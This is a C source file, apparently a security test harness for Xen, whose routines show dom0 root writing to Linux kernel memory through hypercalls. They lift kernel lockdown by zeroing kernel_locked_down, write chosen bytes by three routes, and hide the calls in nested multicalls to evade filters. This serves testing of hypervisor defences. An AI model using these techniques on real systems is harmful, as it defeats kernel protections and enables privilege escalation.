// SPDX-License-Identifier: GPL-2.0-only
/*
 * Writes to kernel memory through Xen. Xen copies results of a hypercall to
 * wherever the caller says, with the rights of the calling vCPU's kernel: it
 * cannot know that root asked, not the kernel.
 */
#include "../rogue.h"

/*
 * U-KMEM-ZERO: lift the kernel's lockdown with sixteen zero bytes.
 *
 * xen_version's guest_handle operation copies dom0's UUID, which is all zeros,
 * to an address that the caller chooses. Xen checks that dom0 may write there;
 * dom0's kernel may, so root may. Where the kernel is not locked down itself,
 * bytes of its version string stand in for that.
 */
ATTACK("U-KMEM-ZERO", "zero a kernel variable through xen_version")
{
    static const char zeros[16];
    const uint64_t lockdown = kernel_symbol("kernel_locked_down");
    char bytes[sizeof(zeros)];
    bool lifted; /* or what stands in for it */

    if ( !lockdown || !victim() )
        return cannot_try("no address for the kernel's variables");

    if ( !kernel_locked_down() )
    {
        hypercall2(__HYPERVISOR_xen_version, XENVER_guest_handle, victim());
        read_victim(bytes, sizeof(bytes));
        lifted = !memcmp(bytes, zeros, sizeof(bytes));
        return effect_either(lifted, "the kernel's version", "zeroed",
                             "unchanged");
    }

    hypercall2(__HYPERVISOR_xen_version, XENVER_guest_handle, lockdown);
    lifted = !kernel_locked_down();
    if ( lifted )
        lock_kernel_down(); /* for those that run next */

    return effect_either(lifted, "lockdown of the kernel", "lifted",
                         "unchanged");
}

/* ---- chosen bytes ---- */

/*
 * The caller of setdomainhandle chooses the UUID that guest_handle then writes.
 */
static long write_by_handle(uint64_t address, const char bytes[16])
{
    long result;

    set_handle(bytes);
    result = hypercall2(__HYPERVISOR_xen_version, XENVER_guest_handle, address);
    set_handle((char[MARK_SIZE]){ 0 });

    return result;
}

/*
 * Xen's console ring holds every letter somewhere: read it one letter at a
 * time.
 */
static void write_by_console(uint64_t address, const char *bytes, size_t size)
{
    static const uint32_t ring_size = 16384;
    char *ring = buffer(ring_size);
    struct xen_sysctl read = { .cmd = XEN_SYSCTL_readconsole,
                               .u.readconsole = { .buffer.p = ring,
                                                  .count = ring_size } };
    uint32_t start;

    if ( sysctl(&read) )
        read.u.readconsole.count = 0;

    /*
     * Even without knowing the ring: a console read that is aimed at the
     * kernel.
     */
    start = read.u.readconsole.index - read.u.readconsole.count;
    for ( size_t i = 0; i < size; i++ )
    {
        char *found = memchr(ring, bytes[i], ring_size);

        read.u.readconsole.incremental = 1;
        read.u.readconsole.index = start +
                                   (found ? (uint32_t)(found - ring) : 0);
        read.u.readconsole.count = 1;
        set_xen_guest_handle(read.u.readconsole.buffer, (char *)(address + i));
        sysctl(&read);
    }
}

/*
 * U-KMEM-WRITE: the same with bytes of the attacker's choice.
 *
 * Three of the many operations that write what their caller controls: dom0's
 * own UUID, a letter of Xen's console, and a copy between two of dom0's frames
 * that asks for no address at all.
 */
ATTACK("U-KMEM-WRITE", "write chosen bytes to a kernel variable")
{
    const uint64_t address = victim();
    char text[100] = "";

    if ( !address || !kernel_frame(address) )
        return cannot_try("no address or frame for the kernel's variable");

    write_by_handle(address, new_mark());
    if ( victim_has_mark() )
        strcat(text, " domain UUID;");

    write_by_console(address, new_mark(), MARK_SIZE);
    if ( victim_has_mark() )
        strcat(text, " console read;");

    copy_to_frame(kernel_frame(address), address % PAGE_SIZE, new_mark(),
                  MARK_SIZE);
    if ( victim_has_mark() )
        strcat(text, " grant copy;");

    return effect(*text, "the kernel's version %s%s",
                  *text ? "rewritten by" : "unchanged", text);
}

bool raw_hypercalls_work(void)
{
    write_by_handle(victim(), new_mark());
    return victim_has_mark();
}

/*
 * U-MULTICALL: hide the call in a list of calls.
 *
 * A filter that looks at the number of a hypercall sees only multicall. The
 * list here sets dom0's UUID and has it written to the kernel; it is tried on
 * its own and in a list of lists.
 */
ATTACK("U-MULTICALL", "write to the kernel from within a multicall")
{
    const uint64_t address = victim();
    multicall_entry_t *list = buffer(PAGE_SIZE), *outer = buffer(PAGE_SIZE);
    struct xen_domctl *set = buffer(PAGE_SIZE);
    bool plain;

    if ( !address )
        return cannot_try("no address for the kernel's variable");

    set->cmd = XEN_DOMCTL_setdomainhandle;
    domctl(set); /* finds the interface version */

    list[0] = (multicall_entry_t){ .op = __HYPERVISOR_domctl,
                                   .args = { (uintptr_t)set } };
    list[1] = (multicall_entry_t){ .op = __HYPERVISOR_xen_version,
                                   .args = { XENVER_guest_handle, address } };
    outer[0] = (multicall_entry_t){ .op = __HYPERVISOR_multicall,
                                    .args = { (uintptr_t)list, 2 } };

    memcpy(set->u.setdomainhandle.handle, new_mark(), MARK_SIZE);
    hypercall2(__HYPERVISOR_multicall, list, 2);
    plain = victim_has_mark();

    memcpy(set->u.setdomainhandle.handle, new_mark(), MARK_SIZE);
    hypercall2(__HYPERVISOR_multicall, outer, 1);

    if ( victim_has_mark() )
        return effect(true,
                      "the kernel's version rewritten by a nested multicall");
    return effect_either(plain, "the kernel's version", "rewritten",
                         "unchanged");
}
